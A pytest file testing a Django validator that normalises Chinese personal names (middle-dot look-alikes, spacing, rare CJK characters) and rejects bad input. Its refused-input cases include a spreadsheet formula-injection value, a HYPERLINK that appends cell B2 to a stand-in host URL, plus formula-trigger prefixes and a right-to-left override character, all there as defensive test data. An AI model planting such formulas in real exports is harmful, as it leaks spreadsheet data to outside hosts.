"""A person's name: one normal form and one rule for every form, API and import (issue 16 finding 2)."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st

from zhicheng.common.validators import NAME_DOT, normalize_person_name, validate_person_name

DOTS = [".", "．", "•", "・", "‧", "∙", "·", "･", "⋅"]


@pytest.mark.parametrize("dot", DOTS)
def test_every_middle_dot_look_alike_becomes_u00b7(dot):
    assert validate_person_name(f"古丽米热{dot}艾比布力") == "古丽米热·艾比布力"
    assert validate_person_name(f"古丽米热 {dot} 艾比布力") == "古丽米热·艾比布力"


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("阿依古丽.买买提", "阿依古丽·买买提"),  # the report
        ("  张  三 ", "张三"),
        ("张\u3000三", "张三"),
        ("𠮷野家", "𠮷野家"),  # Extension B (plane 2)
        ("刘䶮", "刘䶮"),  # Extension A
        ("王\U00030000明", "王\U00030000明"),  # Extension G (plane 3)
        ("欧阳\U0002b740", "欧阳\U0002b740"),  # Extension D
        ("爱新觉罗·溥仪", "爱新觉罗·溥仪"),
    ],
)
def test_chinese_names_are_stored_in_normal_form(typed, stored):
    assert validate_person_name(typed) == stored


@pytest.mark.parametrize(
    ("typed", "code"),
    [
        ("Zhang San 123", "name_digits"),  # the report: refused for a 居民身份证 holder
        ("张三1", "name_digits"),
        ("张三３", "name_digits"),
        ("Zhang San", "name_chars"),
        ('=HYPERLINK("http://x.example/?"&B2,"张三")', "name_formula"),
        ("+张三", "name_formula"),
        ("-张三", "name_formula"),
        ("@张三", "name_formula"),
        ("＝张三", "name_formula"),  # full-width = is = after NFKC
        ("张\x00三", "name_control"),
        ("张\u202e三", "name_control"),  # right-to-left override
        ("张\n三", "name_control"),
        ("·张三", "name_dot"),
        ("张三·", "name_dot"),
        ("张三<b>", "name_chars"),
        ("张", "name_length"),
        ("", "name_required"),
        ("   ", "name_required"),
    ],
)
def test_refused_names_say_why(typed, code):
    with pytest.raises(ValidationError) as exc:
        validate_person_name(typed)
    assert exc.value.code == code


def test_foreign_documents_allow_latin_letters_and_spaces():
    assert validate_person_name("  Jean-Pierre   DUPONT ", latin_allowed=True) == "Jean-Pierre DUPONT"
    assert validate_person_name("José Müller", latin_allowed=True) == "José Müller"
    assert validate_person_name("O'Brien Liam", latin_allowed=True) == "O'Brien Liam"
    for bad in ("John 3", "=John", "Иван Петров"):
        with pytest.raises(ValidationError):
            validate_person_name(bad, latin_allowed=True)


@given(
    first=st.text(alphabet="阿依古丽米热艾比布力买提爱新觉罗", min_size=1, max_size=6),
    second=st.text(alphabet="阿依古丽米热艾比布力买提爱新觉罗", min_size=1, max_size=6),
    dot=st.sampled_from(DOTS),
    pad=st.sampled_from(["", " ", "\u3000", "  "]),
)
def test_any_dot_typed_gives_the_same_name(first, second, dot, pad):
    typed = f"{pad}{first}{pad}{dot}{pad}{second}{pad}"
    assert validate_person_name(typed) == normalize_person_name(typed) == f"{first}{NAME_DOT}{second}"
